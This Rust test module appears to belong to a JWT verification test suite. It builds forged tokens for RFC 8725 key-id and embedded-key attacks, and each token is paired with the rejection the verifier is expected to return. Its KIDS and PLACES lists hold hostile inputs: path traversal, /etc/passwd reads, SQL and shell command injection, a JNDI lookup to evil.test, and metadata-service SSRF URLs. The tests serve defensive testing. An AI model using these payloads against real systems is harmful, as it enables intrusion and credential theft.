//! Attacks 7, 8 and 25: key ids that are paths, queries or URLs, keys inside the token, keys that are not for tokens
//! (RFC 8725 section 3.10, RFC 7515 section 4.1).

use serde_json::{Value, json};

use super::original::{Original, Variant, short, with, without, without_last};
use crate::{
    algorithm::Algorithm,
    testing::{
        forgery::Rows,
        key::{TestKey, b64},
        odd_keys::OddKey,
    },
};

const KIDS: [&str; 34] = [
    "../../../../../../dev/null",
    "/dev/null",
    "..\\..\\windows\\win.ini",
    "/proc/sys/kernel/randomize_va_space",
    "file:///etc/passwd",
    "C:\\key.pem",
    "' OR '1'='1",
    "x' UNION SELECT 'c2VjcmV0';--",
    "\"; DROP TABLE keys; --",
    "1 OR 1=1",
    "$(id)",
    "`id`",
    "| id",
    "; sleep 10",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil.test/x}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "x\r\nX-Injected: y",
    "x\nERROR forged line",
    "\u{1b}[31mred",
    "\u{0}",
    "\u{feff}",
    "\u{202e}1-se",
    "https://evil.test/jwks.json",
    "//evil.test/jwks.json",
    "http://169.254.169.254/latest/meta-data/",
    "*",
    ".*",
    "__proto__",
    "constructor",
    "null",
    "0",
];

const PLACES: [&str; 18] = [
    "https://evil.test/jwks.json",
    "http://evil.test/jwks.json",
    "//evil.test/jwks.json",
    "https://issuer.test@evil.test/jwks.json",
    "https://evil.test#issuer.test/jwks.json",
    "https://evil.test/?issuer.test",
    "https://evil.test\\@issuer.test/",
    "https://issuer.test.evil.test/jwks.json",
    "https://issuer.test/../redirect?to=https://evil.test/",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:22/",
    "http://[::1]/",
    "http://0x7f000001/",
    "file:///etc/passwd",
    "file:///dev/null",
    "data:application/json,{\"keys\":[]}",
    "gopher://evil.test/_x",
    "",
];

pub(super) fn add(original: &Original, odd: &[OddKey], rows: &mut Rows) {
    let own = original.key().kid();
    let near = [
        own.to_uppercase(),
        format!(" {own}"),
        format!("{own} "),
        format!("{own}\0"),
        format!("{own}\n"),
        format!("{own}\0.pem"),
        format!("./{own}"),
        format!("{own}/../{own}"),
        format!("{own}%00"),
        without_last(own),
        format!("{own}0"),
    ];
    for kid in KIDS.into_iter().chain(near.iter().map(String::as_str)) {
        let token = original.header_with("kid", kid);
        rows.token(7, format!("the key id {kid:?}"), &token, "unknown_key");
        // As where the key is read from a file, and the file is empty.
        let header = with(&with(&original.header(), "kid", kid), "alg", "HS256");
        let token = TestKey::hs256(b"").compact(header.to_string(), original.claims.to_string());
        rows.token(7, format!("the key id {kid:?} and an empty secret"), token, "algorithm");
    }
    let values = [Value::Null, json!(1), json!(true), json!([own]), json!({"kid": own}), json!("")];
    for length in [257, 4096] {
        let token = original.header_with("kid", "k".repeat(length));
        rows.token(7, format!("a key id of {length} bytes"), token, "malformed");
    }
    for kid in values {
        rows.token(7, format!("the key id {}", short(&kid)), original.header_with("kid", kid), "malformed");
    }
    rows.token(7, "no key id", original.under(&without(&original.header(), "kid")), "malformed");
    brought_along(original, rows);
    odd_keys(original, odd, rows);
}

/// Signed by a stranger, under the issuer's key id, under his own, and under none.
fn brought_along(original: &Original, rows: &mut Rows) {
    for Variant { key, header, .. } in original.each() {
        let algorithm = key.algorithm();
        let stranger = match algorithm {
            Algorithm::EdDSA => TestKey::eddsa(key.kid()),
            Algorithm::RS256 => TestKey::rs256(key.kid()),
            _ => TestKey::es256(key.kid()),
        };
        let own = stranger.with_kid("stranger");
        let mut members = vec![
            ("nothing".to_owned(), json!({})),
            ("his jwk".to_owned(), json!({"jwk": stranger.jwk()})),
            ("his jwk under his id".to_owned(), json!({"jwk": own.jwk()})),
            ("his jwk as text".to_owned(), json!({"jwk": stranger.jwk().to_string()})),
            ("his key set".to_owned(), json!({"jwks": {"keys": [stranger.jwk()]}})),
            ("his key as certificate".to_owned(), json!({"x5c": [b64(&stranger.public_bytes()[0])]})),
            ("a certificate's digest".to_owned(), json!({"x5t": b64([0; 20]), "x5t#S256": b64([0; 32])})),
        ];
        if algorithm == original.key().algorithm() {
            let places = PLACES.iter().flat_map(|place| ["jku", "x5u"].map(|member| (place, member)));
            let place =
                |(place, member): (&&str, &str)| (format!("{member} {place:?}"), json!({member: place}));
            members.extend(places.map(place));
        }
        for (name, members) in members {
            let mut header = header.clone();
            for (name, value) in members.as_object().into_iter().flatten() {
                header[name] = value.clone();
            }
            for (id, key, code) in [
                ("the issuer's", Some(key.kid()), "signature"),
                ("his own", Some("stranger"), "unknown_key"),
                ("no", None, "malformed"),
            ] {
                let header = match key {
                    Some(kid) => with(&header, "kid", kid),
                    None => without(&header, "kid"),
                };
                let token = stranger.compact(header.to_string(), original.claims.to_string());
                rows.token(8, format!("a stranger's {algorithm} with {name}, by {id} key id"), token, code);
            }
        }
    }
    let oct = TestKey::hs256(b"attacker").with_kid(original.key().kid());
    let header = with(&with(&original.header(), "alg", "HS256"), "jwk", oct.jwk());
    let token = oct.compact(header.to_string(), original.claims.to_string());
    rows.token(8, "a stranger's secret as jwk", token, "algorithm");
}

fn odd_keys(original: &Original, odd: &[OddKey], rows: &mut Rows) {
    for odd in odd {
        let (header, algorithm) = (odd.key.header(), odd.key.algorithm());
        let code = if algorithm == Algorithm::HS256 { "algorithm" } else { "unknown_key" };
        let token = odd.key.compact(header.to_string(), original.claims.to_string());
        rows.token(25, format!("a published key that is {}", odd.name), token, code);
        let named = with(&original.header(), "kid", odd.key.kid());
        let token = original.key().compact(named.to_string(), original.claims.to_string());
        rows.token(25, format!("the good key by the id of one that is {}", odd.name), token, "unknown_key");
    }
}
